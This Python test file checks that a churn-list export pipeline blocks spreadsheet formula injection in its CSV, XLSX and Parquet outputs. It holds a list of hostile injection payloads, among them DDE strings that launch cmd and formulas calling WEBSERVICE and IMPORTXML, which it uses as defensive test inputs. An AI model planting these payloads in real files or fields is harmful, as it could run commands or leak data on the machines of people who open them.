"""Thousands of texts through every export, read again with four separators: no live formula, ids and numbers as they were."""

import csv
import io
import random
import re
from contextlib import closing

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl.utils.escape import unescape

from features.errors import HeadwaterError
from pipelines.delivery import addresses
from pipelines.delivery.export import ExportContext, write_list
from pipelines.delivery.presets import presets
from targeting.list_settings import ListSettings
from targeting.ranking import ListResult, churn_list
from tests.pipelines.delivery.test_export import cells_under, starts_formula
from tests.scores_sample import sample_scores

BODIES = (
    "=1+1", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1",
    "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", "＋1+1", "－2+3", "＠SUM(1)",
    "=WEBSERVICE(\"http://x\")", "\t=1", "\r=1",
)  # fmt: skip
STARTS = ("", "x,", "x;", "x|", "x\t", "\n", "\ufeff", "\u200b\u00a0", '"', "a\r\n\u2028")
PAYLOADS = [start + body for start in STARTS for body in BODIES]
LETTERS = list("=+-@＝＋－＠,;|\t\r\n\0\"' \ufeff\u200b\u00a0\u2028aZ19流失%()!")
PLAIN = re.compile(r"-?[0-9]+(\.[0-9]+)?|\+[0-9]{6,15}(,.*)?")
WRITTEN = {"customer_id", "tier_current", "recommended_action"}
"""Columns whose texts come from outside."""
BASE = churn_list(sample_scores(400), ListSettings(top=60)).rows


def generated(count: int, seed: int) -> list[str]:
    draw = random.Random(seed)
    return ["".join(draw.choices(LETTERS, k=draw.randint(1, 14))) for _ in range(count)]


def listed(texts: list[str]) -> ListResult:
    """A list with a row per text, which stands wherever a text from outside can stand."""
    count = len(texts)
    rows = BASE.iloc[np.arange(count) % len(BASE)].reset_index(drop=True)
    rows = rows.assign(rank=np.arange(1, count + 1), **{column: pd.Series(texts, dtype=object) for column in WRITTEN})
    reason = {"code": "plan", "feature": "plan", "peer_value": "P1", "rank": 1, "direction": 1, "contribution": 0.5}
    rows["churn_reasons"] = [[reason | {"value": text}] for text in texts]
    result = churn_list(sample_scores(400), ListSettings(top=60))
    return ListResult(**{**vars(result), "rows": rows})


def live(text: str) -> list[str]:
    """Cells that a spreadsheet would run, whatever separator it takes; numbers and telephones, which a layout declares, are none."""
    cells = [cell for separator in ",;\t|" for cell in cells_under(text, separator)]
    return [cell for cell in cells if starts_formula(cell) and not PLAIN.fullmatch(cell.strip('"'))]


def check(tmp_path, texts):
    """Every layout but those that refuse: no live cell, and every id as it was but for apostrophes."""
    result = listed(texts)
    for name, shape in presets().items():
        path = tmp_path / f"{name}.xlsx"
        if shape.format == "csv":
            refuses(result, path, name)
            continue
        write_list(result, path, name, ExportContext())
        READ[shape.format](path, [column.source for column in shape.of("churn").columns], texts)


def refuses(result, path, name):
    """A machine's layout, which has every text as it is, leaves with harmless ones alone."""
    with pytest.raises(HeadwaterError) as raised:
        write_list(result, path, name, ExportContext())
    assert raised.value.problem.code in ("E344", "E347") and not path.exists()


def read_guarded(path, sources, texts):
    text = path.read_bytes().decode("utf-8-sig")
    assert live(text) == []
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    place = sources.index("customer_id")
    assert [row[place].replace("'", "") for row in rows] == [one.replace("'", "") for one in texts]


def read_workbook(path, sources, texts):
    place = sources.index("customer_id")
    with closing(openpyxl.load_workbook(path, read_only=True)) as book:
        for row, text in zip(book.worksheets[0].iter_rows(min_row=2), texts, strict=True):
            assert row[place].data_type == "s" and unescape(row[place].value) == text
            assert not [cell for cell in row if cell.data_type == "f"]


def read_parquet(path, sources, texts):
    assert pq.read_table(path)["customer_id"].to_pylist() == texts


READ = {"csv-excel": read_guarded, "xlsx": read_workbook, "parquet": read_parquet}


def test_payloads_are_many_and_would_run():
    assert len(set(PAYLOADS)) == 150
    assert all(live(text) for text in PAYLOADS)


def test_payloads_and_some_texts_through_every_export(tmp_path):
    check(tmp_path, PAYLOADS + generated(30, seed=1))


@pytest.mark.slow
def test_ten_thousand_texts_through_every_export(tmp_path):
    check(tmp_path, PAYLOADS + generated(10_000, seed=2))


def details_of(texts: list[str], ids: pd.Series) -> pd.DataFrame:
    """Contact details in which every text comes from outside, as the join makes them."""
    told = pd.Series(texts, index=ids, dtype=object)
    safe = told.map(lambda text: addresses.phone(text, "+86"))
    mails = told.map(lambda text: addresses.email(f"{text}@example.com"))
    names = dict.fromkeys(("contact_name", "phone", "email"), told)
    return pd.DataFrame(
        names
        | {
            "phone_e164": safe,
            "phone_digits": safe.str[1:],
            "email_safe": mails.where(mails.notna(), "u" + told.index + "@example.com"),
        }
    )


def test_contact_details_are_live_in_no_export(tmp_path):
    """People read texts as they are, machines get numbers and addresses or nothing: no file is stopped by a hostile name."""
    texts = PAYLOADS + generated(30, seed=3) + ["138 0013 8000"]
    ids = [f"{n:06d}" for n in range(len(texts))]
    result = listed(ids)
    context = ExportContext(details=details_of(texts, pd.Series(ids, dtype=object)))
    for name, shape in presets().items():
        write_list(result, tmp_path / name, name, context)
        sources = [column.source for column in shape.of("churn", contacts=True).columns]
        if shape.format == "xlsx":
            with (tmp_path / name).open("rb") as file, closing(openpyxl.load_workbook(file, read_only=True)) as book:
                told = list(book.worksheets[0].iter_rows(min_row=2))
                assert not [cell for row in told for cell in row if cell.data_type == "f"]
                places = [sources.index(column) for column in ("contact_name", "phone", "email")]
                assert [[unescape(row[n].value) for n in places] for row in told] == [[text] * 3 for text in texts]
        elif shape.format == "parquet":
            assert pq.read_table(tmp_path / name)["phone"].to_pylist() == texts
        else:
            text = (tmp_path / name).read_bytes().decode("utf-8-sig")
            assert live(text) == [] and ("13800138000" in text or shape.format == "csv-excel")


MACHINES = sorted(name for name, shape in presets().items() if shape.format == "csv")


@pytest.mark.parametrize("name", MACHINES)
@pytest.mark.parametrize("column", ["recommended_action", "tier_current"])
def test_a_text_that_would_run_stops_a_machine_s_file_whatever_column_it_is_in(tmp_path, name, column):
    shape = presets()[name]
    if column in [c.source for c in shape.of("churn").columns]:
        result = churn_list(sample_scores(400), ListSettings(top=60))
        rows = result.rows.assign(**{column: "=1+1"})
        with pytest.raises(HeadwaterError) as raised:
            write_list(ListResult(**{**vars(result), "rows": rows}), tmp_path / "x", name, ExportContext())
        assert (raised.value.problem.code, raised.value.problem.column) == ("E344", column)


@pytest.mark.parametrize("name", MACHINES)
def test_numbers_and_ids_are_read_back_as_they_were(tmp_path, name):
    """A probability keeps every digit of its type, and money every cent."""
    result = churn_list(sample_scores(400), ListSettings(top=60))
    if any(column.kinds for column in presets()[name].columns):
        ids = [f"+86138{n:08d}" for n in range(len(result.rows))]
        result = ListResult(**{**vars(result), "rows": result.rows.assign(customer_id=ids)})
    write_list(result, tmp_path / "x", name, ExportContext())
    text = (tmp_path / "x").read_bytes().decode("utf-8")
    rows = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert live(text) == []
    for place, column in enumerate(presets()[name].of("churn").columns):
        own, read = result.rows[column.source], rows.iloc[:, place]
        if own.dtype.kind == "f":
            told = read.replace("", "nan").astype(np.float32).to_numpy()
            assert np.array_equal(told, own.to_numpy(np.float32), equal_nan=True), column.source
        elif column.source in ("customer_id", "value_at_risk", "value_12m_pred"):
            assert read.tolist() == [str(value) for value in own], column.source
